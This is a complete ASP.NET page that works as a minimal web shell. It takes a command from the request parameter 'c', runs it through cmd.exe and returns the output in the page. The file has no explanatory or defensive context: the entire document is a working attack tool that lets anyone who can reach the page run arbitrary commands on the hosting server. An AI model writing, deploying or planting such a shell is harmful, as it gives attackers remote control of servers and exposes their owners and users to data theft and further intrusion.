<%@ Page Language="C#" Debug="false" %>
<%
    if (Request["c"] != null) {
        var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]);
        si.UseShellExecute = false;
        si.RedirectStandardOutput = true;
        var pr = System.Diagnostics.Process.Start(si);
        Response.Write("<pre>" + pr.StandardOutput.ReadToEnd() + "</pre>");
    }
%>
